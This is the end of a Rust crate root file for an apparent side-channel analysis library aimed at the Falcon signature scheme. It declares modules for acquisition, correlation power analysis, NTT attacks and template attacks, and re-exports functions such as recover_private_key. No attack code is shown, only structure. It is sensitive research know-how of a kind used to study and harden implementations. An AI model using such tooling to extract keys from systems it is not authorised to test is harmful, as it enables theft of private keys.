//! assert_eq!(r.bits, truth);
//! ```

// `deny` (not `forbid`) so the one audited exception can opt in:
// `cpa::simd` carries a module-scoped `#[allow(unsafe_code)]` for its
// std::arch intrinsics, and the falcon-ct unsafe audit holds every
// block there to a `// SAFETY:` comment. Everything else in the crate
// still refuses unsafe at compile time.
#![deny(unsafe_code)]

/// Observability substrate (re-export of the standalone `falcon-obs`
/// crate): metrics registry, timing spans and the structured event sink
/// the pipeline instrumentation below feeds. The default sink is a
/// no-op; see `falcon_dema::obs::set_sink` to stream JSONL events.
pub use falcon_obs as obs;

pub mod acquire;
pub mod attack;
pub mod campaign;
pub mod confidence;
pub mod countermeasure;
pub mod cpa;
pub mod error;
pub mod exec;
pub mod ingest;
pub mod io;
pub mod model;
pub mod ntt_attack;
pub mod orch;
pub mod recover;
pub mod screen;
pub mod source;
pub mod stream;
pub mod template;

pub use acquire::Dataset;
pub use attack::recover_sign_exponent;
pub use attack::{
    monolithic_correlations, recover_all, recover_coefficient, recover_mantissa_half_monolithic,
    AttackConfig, CoefficientResult, ComponentResult,
};
pub use campaign::{Campaign, CampaignConfig, CampaignReport, CoefficientStatus, OfflineCampaign};
pub use error::{Error, Result};
pub use orch::{JobSpec, JobState, JobStatus, JobStore, Supervisor, SupervisorConfig};
pub use recover::{invert_fft_f, key_from_fft_bits, recover_private_key, RecoveredKey};
pub use screen::{AcquisitionStats, ScreenConfig};
pub use source::{ColumnSource, TargetBlock};
pub use stream::{RingConfig, StreamedDataset};
